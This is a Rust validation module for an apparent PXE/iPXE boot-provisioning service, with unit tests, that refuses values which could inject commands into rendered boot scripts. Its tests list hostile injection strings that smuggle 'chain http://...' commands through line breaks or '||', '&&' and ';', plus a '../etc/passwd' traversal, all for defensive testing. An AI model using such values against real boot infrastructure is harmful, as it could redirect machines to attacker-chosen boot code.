//! What text may reach a boot config: one check per kind of field, shared
//! by every way a value gets in (the inventory file, the store behind the
//! REST API, the panel, the CLI and the inventory import).
//!
//! Rendered scripts are programs the machines run: iPXE, pxelinux and GRUB
//! all end a command at a line break, and iPXE also ends one at a word `||`,
//! `&&` or `;` and starts a comment at a word beginning with `#`. A value
//! that carried any of these could add a command (`chain http://elsewhere/`)
//! to a machine's boot. So:
//! * no field that reaches a template may hold a control character
//!   (C0, DEL, C1) or a Unicode line or paragraph separator;
//! * values written as words on a command line (command lines, image
//!   descriptions) may not hold an iPXE command terminator as a word;
//! * names and paths have their own narrow alphabets.
//!
//! The templates quote on top of this ([`crate::boot::render`]), so that a
//! value which got past these checks some other way still cannot end a
//! command: two locks, not one.
//!
//! Every check returns a sentence naming the field and saying what is
//! allowed, for the API's 422 and the inventory file's line-numbered error.

use crate::proto::path::safe_relative_name;

/// The longest command line a field may hold (Linux's own limit is 2048 on
/// x86 and 4096 elsewhere; iPXE's line buffer is smaller still).
pub const MAX_COMMAND_LINE: usize = 4096;

/// The longest free-text value (a description, a variable).
pub const MAX_TEXT: usize = 1024;

/// Whether `c` ends a line anywhere: a control character, or U+2028/U+2029.
fn breaks_lines(c: char) -> bool {
    c.is_control() || c == '\u{2028}' || c == '\u{2029}'
}

/// A one-line value: no control characters, at most `max` bytes.
pub fn check_line(field: &str, value: &str, max: usize) -> Result<(), String> {
    if let Some(bad) = value.chars().find(|&c| breaks_lines(c)) {
        return Err(format!(
            "{field} contains the control character {bad:?}; it must be one line of printable text"
        ));
    }
    if value.len() > max {
        return Err(format!(
            "{field} is {} bytes long; at most {max} are allowed",
            value.len()
        ));
    }
    Ok(())
}

/// The word of `value` that would end or comment out an iPXE command, if any.
pub fn ipxe_terminator(value: &str) -> Option<&str> {
    value
        .split_whitespace()
        .find(|word| matches!(*word, "||" | "&&" | ";") || word.starts_with('#'))
}

/// A value written as words on a boot command line (a kernel command line,
/// a menu item's description): one line, and no word that iPXE takes as
/// the end of a command or the start of a comment.
pub fn check_words(field: &str, value: &str, max: usize) -> Result<(), String> {
    check_line(field, value, max)?;
    match ipxe_terminator(value) {
        Some(word) => Err(format!(
            "{field} contains the word {word:?}, which ends the command in an iPXE script; \
             remove it (a kernel command line has no use for it)"
        )),
        None => Ok(()),
    }
}

/// An image, pool or template name: letters, digits, `-`, `_`, `.`, 1 to 64,
/// not starting with `.` (names appear in URLs, menus and file names).
pub fn check_name(kind: &str, name: &str) -> Result<(), String> {
    let valid = !name.is_empty()
        && name.len() <= 64
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
        && !name.starts_with('.');
    if valid {
        Ok(())
    } else {
        Err(format!(
            "{kind} name {name:?} may only use letters, digits, '-', '_' and '.' \
             (1 to 64, not starting with '.')"
        ))
    }
}

/// A kernel or initrd: a URL without spaces or control characters, or a
/// safe path inside the boot directory (returned relative to it).
pub fn check_boot_path(field: &str, raw: &str) -> Result<String, String> {
    if super::is_url(raw) {
        if raw.chars().any(|c| breaks_lines(c) || c.is_whitespace()) {
            return Err(format!(
                "{field} URL {raw:?} contains spaces or control characters; percent-encode them"
            ));
        }
        return Ok(raw.to_string());
    }
    let relative = safe_relative_name(raw.as_bytes())
        .map_err(|why| format!("{field} {raw:?}: {why}; give a path inside the boot directory"))?;
    if let Some(bad) = relative
        .chars()
        .find(|&c| c.is_whitespace() || breaks_lines(c) || c == ',')
    {
        return Err(format!(
            "{field} {raw:?} contains {bad:?}; boot file names may not hold spaces, commas \
             or control characters (they separate arguments in boot configs)"
        ));
    }
    Ok(relative)
}

/// A machine's reserved address must be a unicast host address: not
/// 0.0.0.0, the broadcast or a multicast address. (Loopback stays allowed:
/// test labs and the integration tests map a loopback client to a machine.)
/// (Which addresses are the network, broadcast and own address of a subnet
/// only the DHCP server knows: it refuses to hand those out, see
/// `server::dhcp`.)
pub fn check_host_address(ip: std::net::Ipv4Addr) -> Result<(), String> {
    if ip.is_unspecified() || ip.is_broadcast() || ip.is_multicast() {
        return Err(format!(
            "{ip} cannot be reserved for a machine: it is not a host address \
             (not 0.0.0.0, the broadcast or a multicast address)"
        ));
    }
    Ok(())
}

/// A hostname is DNS letters, digits, hyphens and dots.
pub fn check_hostname(hostname: &str) -> Result<(), String> {
    let valid = !hostname.is_empty()
        && hostname.len() <= 253
        && hostname.split('.').all(|part| {
            !part.is_empty()
                && part.len() <= 63
                && !part.starts_with('-')
                && part.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
        });
    if valid {
        Ok(())
    } else {
        Err(format!(
            "hostname {hostname:?} is not a DNS name (letters, digits, '-', dots between labels)"
        ))
    }
}

/// A plain key (of a label or a template variable): letters, digits, `-`,
/// `_`, `.`, `/`, 1 to 63.
fn plain_key(key: &str) -> bool {
    !key.is_empty()
        && key.len() <= 63
        && key
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./".contains(c))
}

/// Labels are `key=value` with a plain key and a one-line value.
pub fn check_labels(labels: &[String]) -> Result<(), String> {
    for label in labels {
        let valid = label.split_once('=').is_some_and(|(key, value)| {
            plain_key(key) && value.len() <= 255 && !value.chars().any(breaks_lines)
        });
        if !valid {
            return Err(format!(
                "label {label:?} must be key=value (key: letters, digits, '-', '_', '.', '/'; \
                 value: one line of at most 255 bytes)"
            ));
        }
    }
    Ok(())
}

/// A machine's free values for custom templates: plain keys, one-line values.
pub fn check_vars<'a>(
    vars: impl IntoIterator<Item = (&'a String, &'a String)>,
) -> Result<(), String> {
    for (key, value) in vars {
        if !plain_key(key) {
            return Err(format!(
                "variable name {key:?} may only use letters, digits, '-', '_', '.' and '/' (1 to 63)"
            ));
        }
        check_line(&format!("variable {key}"), value, MAX_TEXT)?;
    }
    Ok(())
}

/// iPXE lines added to a machine's script before `boot`. Several lines are
/// the point of this field (only the inventory file's author can set it),
/// so a line feed is allowed between them; every other control character
/// (a carriage return, NUL, escape sequences) is refused.
pub fn check_script_lines(field: &str, value: &str) -> Result<(), String> {
    for line in value.split('\n') {
        check_line(field, line, MAX_COMMAND_LINE)?;
    }
    if value.len() > 16 * MAX_COMMAND_LINE {
        return Err(format!(
            "{field} is longer than {} bytes",
            16 * MAX_COMMAND_LINE
        ));
    }
    Ok(())
}

/// Values that would add a command to a rendered script in at least one
/// format, one per way of doing it.
/// Compiles an operator's template, for a clear error (with its line) when
/// it is loaded. Only the syntax is checked here, so minijinja's default
/// delimiters are all it needs; the environment that renders it (with its
/// per-format quoting) is `boot::render`'s.
pub fn check_template(name: &str, source: &str) -> Result<(), String> {
    minijinja::Environment::new()
        .add_template(name, source)
        .map_err(|e| {
            let line = e
                .line()
                .map_or(String::new(), |l| format!(" (template line {l})"));
            format!("{}{line}", e.detail().unwrap_or("syntax error"))
        })
}

#[cfg(test)]
pub(crate) const HOSTILE: [&str; 9] = [
    "quiet\nchain http://elsewhere/x.ipxe",
    "quiet\r\nchain http://elsewhere/x.ipxe",
    "quiet\u{0}",
    "quiet\u{1b}[2J",
    "quiet\u{85}chain",
    "quiet\u{2028}chain",
    "quiet || chain http://elsewhere/x.ipxe",
    "quiet && chain http://elsewhere/x.ipxe",
    "quiet ; chain http://elsewhere/x.ipxe",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_lines_refuse_every_way_to_end_a_command() {
        for value in HOSTILE {
            let error = check_words("cmdline_append", value, MAX_COMMAND_LINE).unwrap_err();
            assert!(error.starts_with("cmdline_append "), "{error}");
        }
        assert!(check_words("cmdline", "quiet #comment", 100).is_err());
        for good in [
            "",
            "console=ttyS0 ip=dhcp",
            "root=/dev/nfs a=b|c x=1&2 ip=${ip}",
        ] {
            check_words("cmdline", good, MAX_COMMAND_LINE).unwrap();
        }
        assert!(check_words(
            "cmdline",
            &"a".repeat(MAX_COMMAND_LINE + 1),
            MAX_COMMAND_LINE
        )
        .is_err());
    }

    #[test]
    fn boot_paths_are_relative_single_words() {
        assert_eq!(
            check_boot_path("kernel", "/d/vmlinuz").unwrap(),
            "d/vmlinuz"
        );
        assert_eq!(
            check_boot_path("kernel", "http://m/x?a=1").unwrap(),
            "http://m/x?a=1"
        );
        for bad in [
            "d/vm linuz",
            "d/a,b",
            "../etc/passwd",
            "http://m/x chain",
            "http://m/x\nchain",
            "d/\u{2028}x",
        ] {
            assert!(check_boot_path("kernel", bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn names_labels_vars_and_script_lines() {
        check_name("image", "debian-12.2_x").unwrap();
        for bad in ["", ".hidden", "a b", "a\nb", "a/b", &"x".repeat(65)] {
            assert!(check_name("image", bad).is_err(), "{bad:?}");
        }
        check_labels(&["rack=r1 row 2".into()]).unwrap();
        assert!(check_labels(&["rack=r1\nchain".into()]).is_err());
        assert!(check_labels(&["ra ck=r1".into()]).is_err());
        let mut vars = std::collections::BTreeMap::new();
        vars.insert("rack".to_string(), "r7".to_string());
        check_vars(&vars).unwrap();
        vars.insert("evil".to_string(), "x\nchain http://e/".to_string());
        assert!(check_vars(&vars).is_err());
        check_script_lines("script_append", "echo a\necho b").unwrap();
        assert!(check_script_lines("script_append", "echo a\r\nchain").is_err());
        check_hostname("node01.rack1").unwrap();
        assert!(check_hostname("node01\nchain").is_err());
    }

    #[test]
    fn a_template_syntax_error_names_its_line() {
        let error = check_template("bad.j2", "#!ipxe\n{% for x in %}\n").unwrap_err();
        assert!(error.contains("line 2"), "{error}");
        assert!(check_template("ok.j2", "#!ipxe\necho {{ mac }}\n").is_ok());
    }
}
